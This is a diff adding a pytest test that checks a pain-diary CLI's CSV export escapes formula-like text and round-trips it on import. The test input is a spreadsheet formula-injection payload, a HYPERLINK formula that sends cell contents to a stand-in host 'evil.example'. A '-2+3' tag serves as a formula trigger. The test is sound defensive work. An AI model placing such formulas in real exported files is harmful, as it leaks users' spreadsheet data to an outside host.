@@ -158,6 +158,21 @@ def test_export_to_stdout_and_to_a_private_file(run, tmp_path):
     assert stat.S_IMODE(os.stat(target).st_mode) == 0o600
 
 
+def test_exported_csv_shows_formula_like_text_as_text_and_imports_it_back(run, tmp_path):
+    note = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    run("add", "--date", DAY, "--pain", "5", "--note", note, "--tag", "-2+3")
+    code, out, _ = run("export")
+    assert code == 0
+    assert out.splitlines()[1].startswith(f"{DAY},5,")
+    assert ",'-2+3,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"," in out
+    source = tmp_path / "mine.csv"
+    source.write_text(out, encoding="utf-8")
+    other = tmp_path / "other.db"
+    assert run("import", str(source), db=other)[0] == 0
+    day = json.loads(run("show", DAY, "--json", db=other)[1])
+    assert (day["notes"], day["tags"]) == (note, ["-2+3"])
+
+
 def test_export_to_an_unwritable_place_exits_1(run, tmp_path):
     run("add", "--date", DAY, "--pain", "5")
     code, _, err = run("export", "-o", str(tmp_path / "no" / "such" / "dir" / "x.csv"))
